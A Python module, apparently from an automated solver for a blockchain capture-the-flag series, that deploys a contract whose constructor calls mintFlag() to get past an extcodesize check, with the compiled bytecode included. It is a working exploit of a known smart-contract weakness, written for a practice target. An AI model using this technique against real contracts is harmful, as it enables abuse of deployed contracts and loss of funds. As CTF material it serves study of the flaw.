"""
Challenge 3 - Mint from Constructor
"""

from .base import BaseChallenge, ChallengeResult

SOLVER_ABI = [
    {
        "type": "constructor",
        "stateMutability": "nonpayable",
        "inputs": [{"name": "challenge3Address", "type": "address", "internalType": "address"}],
    }
]

# pragma solidity ^0.8.0;
# contract Challenge3Solver {
#     constructor(address challenge3Address) {
#         IChallenge3(challenge3Address).mintFlag();
#     }
# }
SOLVER_BYTECODE = (
    "0x6080604052348015600f57600080fd5b506040516100fd3803806100fd833981016040819052602c916082565b"
    "806001600160a01b031663e00d023f6040518163ffffffff1660e01b8152600401600060405180830381600087"
    "803b158015606657600080fd5b505af11580156079573d6000803e3d6000fd5b505050505060b0565b6000602082"
    "84031215609357600080fd5b81516001600160a01b038116811460a957600080fd5b9392505050565b603f806100"
    "be6000396000f3fe6080604052600080fdfea26469706673582212204082e0d6c4ddbb379ada2e2f95a9ce4cc7f6"
    "cb84c0756e58ea147174941d7cce64736f6c63430008140033"
)


class ConstructorMintChallenge(BaseChallenge):
    """
    mintFlag() requires extcodesize(msg.sender) == 0. A contract has no code
    while its constructor runs, so the solver mints from its constructor.
    """

    challenge_id = 3

    def get_name(self) -> str:
        return "Mint from Constructor"

    def get_description(self) -> str:
        return "Call mintFlag() from a constructor to bypass the extcodesize check"

    async def execute(self) -> ChallengeResult:
        completed = await self.check_already_completed()
        if completed:
            return completed

        challenge_address = self.registry.address("Challenge3")

        self.logger.info("🎯 Deploying Solver contract (mintFlag executed in constructor)...")
        receipt = await self.client.deploy_contract(SOLVER_ABI, SOLVER_BYTECODE, [challenge_address])

        return self._create_result(True, {"solver_address": receipt["contractAddress"]})
